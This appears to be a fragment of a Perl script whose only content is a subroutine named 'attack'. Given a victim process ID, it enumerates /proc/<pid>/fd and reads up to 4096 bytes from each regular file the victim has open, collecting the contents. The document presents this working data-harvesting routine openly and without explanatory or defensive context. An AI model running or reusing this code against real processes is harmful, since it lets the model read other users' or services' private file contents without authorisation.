use strict;
use warnings;

my $attack = sub {
    my ($given) = @_;
    opendir my $numbers, "/proc/$given->{victim}/fd" or die "opendir: $!\n";
    my $found = '';
    for my $name (map { "/proc/$given->{victim}/fd/$_" } readdir $numbers) {
        next if !-f $name || !open my $file, '<', $name;
        sysread $file, $found, 4096, length $found;
    }
    return $found;
};
